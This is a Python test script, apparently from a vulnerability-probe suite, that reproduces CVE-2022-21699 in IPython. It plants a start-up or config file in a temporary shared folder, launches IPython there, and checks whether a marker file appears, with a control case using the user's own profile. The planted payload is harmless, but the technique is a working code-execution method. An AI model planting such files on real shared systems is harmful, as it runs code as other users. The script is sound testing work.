# /// vertice-probe
# id = "PYSEC-2022-12"
# aliases = ["CVE-2022-21699", "GHSA-pq7m-3gw7-gq5x"]
# package = "ipython"
# summary = """\
#   IPython reads its configuration and start-up files from the current folder, so starting it in a shared folder \
#   runs code that another user left there."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:C/C:H/I:H/A:H" }]
# cwe = ["CWE-250", "CWE-279"]
# kind = "rce"
# symbols = ["IPython.start_ipython", "IPython.start_kernel", "IPython.embed"]
#
# [[affected]]
# package = "ipython"
# ranges = [{ type = "ECOSYSTEM", events = [
#   { introduced = "0" },
#   { fixed = "6.0.0rc1" },
#   { introduced = "6.0.0" },
#   { fixed = "7.16.3" },
#   { introduced = "7.17.0" },
#   { fixed = "7.31.1" },
#   { introduced = "8.0.0" },
#   { fixed = "8.0.1" },
# ] }]
#
# [cases]
# attack = "a start-up file in profile_default of the current folder runs"
# [cases.variants]
# config = "an ipython_config.py in the current folder runs"
# [cases.controls]
# own_profile = "a start-up file in the user's own profile runs, and so does the command given"
#
# [test]
# vulnerable = "8.0.0"
# fixed = "8.0.1"
# ///
"""CVE-2022-21699: configuration from the current folder."""

import json
import os
import subprocess
import sys
import tempfile

BASE = tempfile.mkdtemp()
MARKER = os.path.join(BASE, "marker")
MARK = "open(%r, 'w').close()\n" % MARKER


def plant(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as stream:
        stream.write(MARK)


def start(folder):
    """Start IPython in the folder for one command, as a user with an own profile does."""
    home = os.path.join(BASE, "home")
    os.makedirs(home, exist_ok=True)
    environ = dict(os.environ, IPYTHONDIR=os.path.join(home, "ipython"), HOME=home)
    command = [sys.executable, "-B", "-m", "IPython", "--no-banner", "--colors=NoColor", "-c", "print('sum', 20 + 22)"]
    done = subprocess.run(
        command, cwd=folder, env=environ, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL
    )
    output = done.stdout.decode()
    if done.returncode or "sum 42" not in output:
        raise RuntimeError("IPython did not run the command: %s" % output[-300:])


def judge(name):
    folder = os.path.join(BASE, "shared")
    plant(os.path.join(folder, *name.split("/")))
    start(folder)
    if os.path.exists(MARKER):
        return "exploited", "%s of the current folder ran" % name
    return "blocked", "IPython ran its command, but not %s of the current folder" % name


def attack():
    return judge("profile_default/startup/00-left-here.py")


def config():
    return judge("ipython_config.py")


def own_profile():
    plant(os.path.join(BASE, "home", "ipython", "profile_default", "startup", "00-own.py"))
    start(BASE)
    return ("works", "the own start-up file ran") if os.path.exists(MARKER) else ("broken", "it did not run")


CASES = {"attack": attack, "config": config, "own_profile": own_profile}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
